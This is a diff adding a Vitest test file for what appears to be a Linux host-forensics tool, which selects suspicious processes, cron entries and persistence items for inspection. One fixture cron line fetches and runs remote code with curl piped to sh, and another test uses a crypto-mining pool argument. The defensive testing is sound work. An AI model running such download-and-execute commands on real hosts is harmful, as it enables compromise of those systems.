@@ -1,0 +1,118 @@
+import { expect, test } from 'vitest';
+import type { Process, Snapshot } from '../../../domain/snapshot.ts';
+import { captured, OPTIONS } from '../captured.fixture.ts';
+import { parseSurvey } from '../index.ts';
+import { deepLook, scriptOf } from './choose-contents.ts';
+
+const infected: Snapshot = parseSurvey(captured('infected'), OPTIONS);
+const clean: Snapshot = parseSurvey(captured('clean'), OPTIONS);
+const init = clean.processes.find((process) => process.image?.path === '/usr/sbin/cron');
+
+/** A process like the clean host's, changed as told. */
+function process(change: Partial<Process>, image: Partial<NonNullable<Process['image']>> = {}): Process {
+  if (init?.image == null) throw new Error('the captured host has no cron');
+  return { ...init, pid: 4000, ...change, image: { ...init.image, sha256: null, inode: '4000', ...image } };
+}
+const looksOf = (change: Partial<Snapshot>) =>
+  deepLook({ ...clean, processes: [], cronFiles: [], files: [], persistence: [], ...change });
+
+test('a host whose programs are where they belong needs no closer look', () => {
+  expect(looksOf({ processes: [process({})] })).toEqual([]);
+});
+
+test.each([
+  ['is deleted', process({}, { deleted: true, links: 0 })],
+  ['lies in a temporary folder', process({}, { path: '/dev/shm/x' })],
+  ['is only in memory', process({}, { path: '/memfd:x', deleted: true })],
+  ['lies outside the system folders', process({}, { path: '/home/u/x' })],
+  ['has the name of a kernel thread', process({ comm: 'kworker/0:1' })],
+  ['calls itself a kernel thread', process({ argv: ['[kthreadd]'] })],
+  ['is busy', process({ cpuShare: 0.9, cpuSeconds: 900 })],
+  ['has mining arguments', process({ argv: ['/usr/bin/x', '-o', 'stratum+tcp://h.example:1'] })],
+  ['is hidden', process({ hidden: true })],
+])('an image that %s is read', (_why, suspect) => {
+  expect(looksOf({ processes: [suspect] })).toMatchObject([{ kind: 'image', pid: 4000 }]);
+});
+
+test.each(['migration-runner', 'migrations', 'rcu_report.py'])('%s is no kernel thread’s name', (name) => {
+  expect(looksOf({ processes: [process({ comm: name, argv: [name] })] })).toEqual([]);
+});
+
+test('what is gone, or ours, is not read', () => {
+  const inTmp = { path: '/tmp/x' };
+  expect(looksOf({ processes: [process({ state: 'Z' }, inTmp), process({ pid: 1 }, inTmp)] })).toEqual([]);
+});
+
+test('equal images are read once', () => {
+  const same = { path: '/tmp/x', sha256: 'a'.repeat(64) };
+  const found = looksOf({
+    processes: [process({ pid: 5 }, same), process({ pid: 6 }, { ...same, inode: '7' })],
+  });
+  expect(found).toHaveLength(1);
+});
+
+test.each([
+  ['/usr/bin/dash', ['sh', '/tmp/i.sh'], '/', null, '/tmp/i.sh'],
+  ['/usr/bin/bash', ['bash', '-x', './i.sh', 'a'], '/tmp', null, '/tmp/i.sh'],
+  ['/usr/bin/busybox', ['busybox', 'sh', '/tmp/i.sh'], '/', null, '/tmp/i.sh'],
+  ['/usr/bin/python3.11', ['python3', '-u', '/opt/x.py'], '/', null, '/opt/x.py'],
+  ['/usr/bin/dash', ['sh', '-c', '/tmp/i.sh'], '/', null, null],
+  ['/usr/bin/dash', ['sh'], '/', '/tmp/fed', '/tmp/fed'],
+  ['/usr/bin/dash', ['sh'], '/', 'pipe:[1]', null],
+  ['/usr/bin/sleep', ['sleep', '/tmp/i.sh'], '/', null, null],
+])('%s with %j in %s runs %s %s', (path, argv, cwd, stdin, script) => {
+  expect(scriptOf(process({ argv, cwd, stdin }, { path }))).toBe(script);
+});
+
+test('files that cron lines and starters name, and what carries the name of a download, are read', () => {
+  const file = infected.cronFiles[0];
+  const lineText = infected.cronFiles.flatMap((cron) => cron.lines).find((line) => line.command !== null);
+  const record = infected.files.find((one) => one.path === '/tmp/i.sh');
+  if (file === undefined || lineText === undefined || record === undefined)
+    throw new Error('capture has changed');
+  const command = 'sh%curl http://203.0.113.20/get/update | sh; /opt/run/me';
+  const paths = looksOf({
+    cronFiles: [{ ...file, lines: [{ ...lineText, command }] }],
+    files: [{ ...record, path: '/tmp/a/update', identity: { ...record.identity, mode: '0644' } }],
+    persistence: infected.persistence.slice(0, 1).map((one) => ({ ...one, text: 'ExecStart=/dev/shm/svc' })),
+  }).map((look) => look.path);
+  expect(paths.sort()).toEqual(['/dev/shm/svc', '/opt/run/me', '/tmp/a/update']);
+});
+
+test('folders of periodic scripts and templates for temporary files are no files to read', () => {
+  const [starter] = infected.persistence;
+  const [cron] = infected.cronFiles;
+  const line = infected.cronFiles.flatMap(({ lines }) => lines).find(({ command }) => command !== null);
+  const record = infected.files.find(({ path }) => path === '/tmp/i.sh');
+  if (starter === undefined || cron === undefined || line === undefined || record === undefined)
+    throw new Error('capture has changed');
+  const there = {
+    cronFiles: [{ ...cron, lines: [{ ...line, command: 'cd / && run-parts /etc/cron.hourly' }] }],
+    persistence: [{ ...starter, text: 't=$(mktemp /tmp/t.XXXXXX)' }],
+  };
+  expect(looksOf({ ...there, files: [] })).toEqual([]);
+  const named = { ...record, path: '/tmp/t.XXXXXX', identity: { ...record.identity, mode: '0644' } };
+  expect(looksOf({ ...there, files: [named] }).map(({ path }) => path)).toEqual(['/tmp/t.XXXXXX']);
+});
+
+test('a name like a template hides nothing where the survey does not list', () => {
+  const [cron] = infected.cronFiles;
+  const line = infected.cronFiles.flatMap(({ lines }) => lines).find(({ command }) => command !== null);
+  const starter = infected.persistence.find(({ kind }) => kind !== 'authorized-keys');
+  if (starter === undefined || cron === undefined || line === undefined)
+    throw new Error('capture has changed');
+  const looks = looksOf({
+    cronFiles: [{ ...cron, lines: [{ ...line, command: 'sh /opt/run.XXXXXX; sh /tmp/a/b/c/d/e.XXXXXX' }] }],
+    persistence: [{ ...starter, kind: 'preload', text: '/usr/local/lib/libXXXXXX' }],
+    files: [],
+  });
+  const read = looks.map(({ path }) => path).sort();
+  expect(read).toEqual(['/opt/run.XXXXXX', '/tmp/a/b/c/d/e.XXXXXX', '/usr/local/lib/libXXXXXX']);
+});
+
+test('a preloaded library is read wherever it lies', () => {
+  const persistence = infected.persistence
+    .slice(0, 1)
+    .map((one) => ({ ...one, kind: 'preload' as const, text: '/usr/lib/libsystem.so\\u{a}' }));
+  expect(looksOf({ persistence }).map((look) => look.path)).toEqual(['/usr/lib/libsystem.so']);
+});
